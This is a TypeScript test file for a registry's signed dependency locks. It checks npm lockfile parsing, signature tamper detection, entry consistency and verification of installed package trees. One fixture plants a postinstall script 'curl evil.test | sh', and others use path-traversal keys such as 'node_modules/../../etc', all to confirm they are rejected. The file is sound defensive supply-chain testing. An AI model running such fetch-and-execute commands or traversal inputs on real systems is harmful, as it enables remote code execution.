/**
 * Dependency locks of catalog entries (THREATS RP-4, LS-3): parsing npm's lockfile into the
 * signed lock, the lock's consistency with its entry, and the check of an installed tree.
 */
import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  generateCatalogKeys,
  lockFromNpm,
  lockHash,
  lockfileText,
  parseCatalog,
  signCatalog,
  verifyCatalog,
  verifyInstalledTree,
} from '../../../src/registry/index.ts';
import type { PackageLock } from '../../../src/registry/index.ts';
import { isAppError } from '../../../src/core/index.ts';

const SPEC = 'npm:@acme/server@1.2.3';
const sri = (n: number) => 'sha512-' + Buffer.alloc(64, n).toString('base64');
const tgz = (name: string, v: string) => `https://registry.npmjs.org/${name}/-/x-${v}.tgz`;

function npmLock(extra: Record<string, Record<string, unknown>> = {}): string {
  return JSON.stringify({
    name: 'warden-catalog-install',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'warden-catalog-install', version: '0.0.0', dependencies: { '@acme/server': '1.2.3' } },
      'node_modules/@acme/server': {
        version: '1.2.3',
        resolved: tgz('@acme/server', '1.2.3'),
        integrity: sri(1),
        license: 'MIT',
        funding: { url: 'https://example.com' },
        dependencies: { dep: '^2.0.0' },
        bin: { server: 'dist/index.js' },
      },
      'node_modules/dep': { version: '2.1.0', resolved: tgz('dep', '2.1.0'), integrity: sri(2) },
      'node_modules/@acme/server/node_modules/dep': {
        version: '1.0.0',
        resolved: tgz('dep', '1.0.0'),
        integrity: sri(3),
      },
      'node_modules/fsevents': {
        version: '2.3.3',
        resolved: tgz('fsevents', '2.3.3'),
        integrity: sri(4),
        optional: true,
        os: ['darwin'],
        hasInstallScript: true,
      },
      ...extra,
    },
  });
}

describe('lockFromNpm', () => {
  it('[RP-4] keeps every package with exact version, tarball URL and integrity; drops the root and noise', () => {
    const lock = lockFromNpm(SPEC, npmLock());
    assert.deepEqual(Object.keys(lock.packages).sort(), [
      'node_modules/@acme/server',
      'node_modules/@acme/server/node_modules/dep',
      'node_modules/dep',
      'node_modules/fsevents',
    ]);
    assert.deepEqual(lock.packages['node_modules/@acme/server'], {
      version: '1.2.3',
      resolved: tgz('@acme/server', '1.2.3'),
      integrity: sri(1),
      dependencies: { dep: '^2.0.0' },
      bin: { server: 'dist/index.js' },
    });
  });

  it('[RP-4] refuses a dependency npm cannot pin (git, link, no integrity), naming it', () => {
    const bads: Record<string, Record<string, unknown>>[] = [
      { 'node_modules/gitdep': { version: '1.0.0', resolved: 'git+ssh://git@github.com/x/y.git#abc' } },
      { 'node_modules/linked': { resolved: '../linked', link: true } },
    ];
    for (const bad of bads) {
      assert.throws(
        () => lockFromNpm(SPEC, npmLock(bad)),
        (e: unknown) =>
          isAppError(e) && e.code === 'ERR_LOCK_RESOLVE' && e.message.includes(Object.keys(bad)[0]!),
      );
    }
    // a bundled dependency has no tarball of its own: its parent's integrity covers it (twin)
    const bundled = lockFromNpm(
      SPEC,
      npmLock({ 'node_modules/dep/node_modules/b': { version: '1.0.0', inBundle: true } }),
    );
    assert.equal(bundled.packages['node_modules/dep/node_modules/b']?.inBundle, true);
  });

  it('[RP-4] refuses install paths outside node_modules and a lock without the package itself', () => {
    for (const key of ['node_modules/../../etc', 'node_modules/a/../../x', '../x', 'node_modules/.bin']) {
      assert.throws(
        () =>
          lockFromNpm(
            SPEC,
            npmLock({ [key]: { version: '1.0.0', resolved: tgz('x', '1.0.0'), integrity: sri(9) } }),
          ),
        (e: unknown) => isAppError(e) && e.code === 'ERR_LOCK_RESOLVE',
        key,
      );
    }
    assert.throws(
      () => lockFromNpm('npm:@acme/server@9.9.9', npmLock()),
      (e: unknown) =>
        isAppError(e) &&
        e.code === 'ERR_LOCK_RESOLVE' &&
        /did not resolve @acme\/server@9\.9\.9/.test(e.message),
    );
  });

  it('rebuilds the lockfile npm ci is given: the derived root plus the signed packages', () => {
    const lock = lockFromNpm(SPEC, npmLock());
    const text = JSON.parse(lockfileText(SPEC, lock)) as {
      lockfileVersion: number;
      packages: Record<string, unknown>;
    };
    assert.equal(text.lockfileVersion, 3);
    assert.deepEqual(text.packages[''], {
      name: 'warden-catalog-install',
      version: '0.0.0',
      dependencies: { '@acme/server': '1.2.3' },
    });
    assert.equal(Object.keys(text.packages).length, 5);
  });
});

describe('the lock in a signed catalog entry', () => {
  const lock = lockFromNpm(SPEC, npmLock());
  const entry = { name: 'acme', package: SPEC, integrity: sri(1), lock };

  it('[RP-4] is covered by the signature: any change to a dependency fails verification; unchanged it verifies (twin)', () => {
    const keys = generateCatalogKeys();
    const text = signCatalog({ version: 1, servers: [entry] }, keys.privateKeyPem);
    assert.equal(
      verifyCatalog(text, keys.publicKeyPem).servers[0]!.lock?.packages['node_modules/dep']?.version,
      '2.1.0',
    );
    for (const change of [
      (p: Record<string, Record<string, unknown>>) => (p['node_modules/dep']!['integrity'] = sri(7)),
      (p: Record<string, Record<string, unknown>>) => (p['node_modules/dep']!['version'] = '2.1.1'),
      (p: Record<string, Record<string, unknown>>) => delete p['node_modules/@acme/server/node_modules/dep'],
    ]) {
      const env = JSON.parse(text) as {
        payload: { servers: { lock: { packages: Record<string, Record<string, unknown>> } }[] };
      };
      change(env.payload.servers[0]!.lock.packages);
      assert.throws(
        () => verifyCatalog(JSON.stringify(env), keys.publicKeyPem),
        (e: unknown) => isAppError(e) && e.code === 'ERR_CATALOG_SIGNATURE',
      );
    }
  });

  it("[RP-4] must agree with the entry: the package's own lock entry has the entry's version and integrity", () => {
    assert.equal(parseCatalog({ version: 1, servers: [entry] }).servers[0]!.lock !== undefined, true);
    assert.throws(
      () => parseCatalog({ version: 1, servers: [{ ...entry, integrity: sri(5) }] }),
      (e: unknown) =>
        isAppError(e) &&
        e.code === 'ERR_CATALOG_INVALID' &&
        /lock must hold the entry's own package/.test(e.message),
    );
    assert.throws(
      () => parseCatalog({ version: 1, servers: [{ ...entry, package: 'npm:@acme/server@1.2.4' }] }),
      (e: unknown) => isAppError(e) && e.code === 'ERR_CATALOG_INVALID',
    );
    const unknownKey = structuredClone(lock) as { packages: Record<string, Record<string, unknown>> };
    unknownKey.packages['node_modules/dep']!['scripts'] = { postinstall: 'curl evil.test | sh' };
    assert.throws(
      () => parseCatalog({ version: 1, servers: [{ ...entry, lock: unknownKey }] }),
      (e: unknown) => isAppError(e) && e.code === 'ERR_CATALOG_INVALID',
    );
  });

  it('has a stable hash that changes with any dependency', () => {
    const other = structuredClone(lock) as { packages: Record<string, { version: string }> };
    other.packages['node_modules/dep']!.version = '2.1.1';
    assert.equal(lockHash(lock), lockHash(structuredClone(lock)));
    assert.notEqual(lockHash(lock), lockHash(other as PackageLock));
  });
});

describe('verifyInstalledTree', () => {
  const lock = lockFromNpm(SPEC, npmLock());
  const dirs: string[] = [];
  after(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

  function tree(pkgs: Record<string, { name: string; version: string }>): string {
    const dir = mkdtempSync(join(tmpdir(), 'warden-tree-'));
    dirs.push(dir);
    for (const [key, pkg] of Object.entries(pkgs)) {
      mkdirSync(join(dir, key), { recursive: true });
      writeFileSync(join(dir, key, 'package.json'), JSON.stringify(pkg));
    }
    mkdirSync(join(dir, 'node_modules', '.bin'), { recursive: true });
    writeFileSync(join(dir, 'node_modules', '.package-lock.json'), '{}');
    return dir;
  }
  const good = {
    'node_modules/@acme/server': { name: '@acme/server', version: '1.2.3' },
    'node_modules/@acme/server/node_modules/dep': { name: 'dep', version: '1.0.0' },
    'node_modules/dep': { name: 'dep', version: '2.1.0' },
  };

  it('[RP-4] accepts the locked tree (an optional platform package may be absent) (twin)', () => {
    assert.deepEqual(verifyInstalledTree(tree(good), lock), []);
  });

  it('[RP-4] names a package that is not in the lock, one with another version or name, and one missing', () => {
    assert.deepEqual(
      verifyInstalledTree(
        tree({ ...good, 'node_modules/left-pad': { name: 'left-pad', version: '1.3.0' } }),
        lock,
      ),
      ['node_modules/left-pad: installed but not in the signed lock'],
    );
    assert.deepEqual(
      verifyInstalledTree(tree({ ...good, 'node_modules/dep': { name: 'dep', version: '2.1.1' } }), lock),
      ['node_modules/dep: installed dep@2.1.1, the lock says dep@2.1.0'],
    );
    assert.deepEqual(
      verifyInstalledTree(tree({ ...good, 'node_modules/dep': { name: 'evil', version: '2.1.0' } }), lock),
      ['node_modules/dep: installed evil@2.1.0, the lock says dep@2.1.0'],
    );
    const { ['node_modules/dep']: _gone, ...missing } = good;
    assert.deepEqual(verifyInstalledTree(tree(missing), lock), [
      'node_modules/dep: in the signed lock but not installed',
    ]);
  });

  it('[RP-4] refuses a symbolic link in place of a package', () => {
    const { ['node_modules/dep']: _gone, ...rest } = good;
    const dir = tree(rest);
    const elsewhere = tree({ 'node_modules/dep': { name: 'dep', version: '2.1.0' } });
    symlinkSync(join(elsewhere, 'node_modules', 'dep'), join(dir, 'node_modules', 'dep'));
    assert.deepEqual(verifyInstalledTree(dir, lock), [
      'node_modules/dep: is not a package directory (a link)',
    ]);
  });
});
